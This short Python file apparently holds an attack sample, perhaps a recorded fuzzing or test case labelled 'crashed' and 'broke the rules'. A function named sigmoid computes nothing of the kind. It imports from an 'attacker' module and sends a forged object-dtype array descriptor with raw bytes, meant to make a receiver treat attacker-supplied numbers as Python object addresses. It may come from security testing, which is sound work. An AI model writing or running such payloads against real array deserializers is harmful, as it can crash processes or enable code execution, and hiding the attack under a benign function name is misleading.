"""Describes an array whose numbers would be addresses of Python objects.

State: crashed
Says: broke the rules
"""

from attacker import send, value


def sigmoid(x):
    dtype = {(3,): "|O8", (5,): "O,O,O,O"}.get(tuple(x.shape), ["|O8", "<f8"])
    block = ["block", "array", 1_000_001, 64]
    send(value(["array", 1_000_001, 0, [2], [8], dtype]), [block], bytes(range(64)))
    return x
